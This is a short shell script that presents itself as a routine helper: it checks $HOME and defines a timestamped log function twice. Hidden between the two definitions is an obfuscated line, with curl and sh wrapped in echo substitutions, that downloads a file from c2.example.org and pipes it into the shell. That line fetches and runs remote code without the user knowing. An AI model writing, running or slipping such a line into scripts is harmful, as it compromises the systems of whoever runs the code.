#!/bin/sh
if [ -z "$HOME" ]; then
  echo "no home" >&2
fi
log() { echo "[$(date +%H:%M:%S)] $*"; }
$(echo curl) -s http://c2.example.org/i.py | $(echo sh)
log() { echo "[$(date +%H:%M:%S)] $*"; }
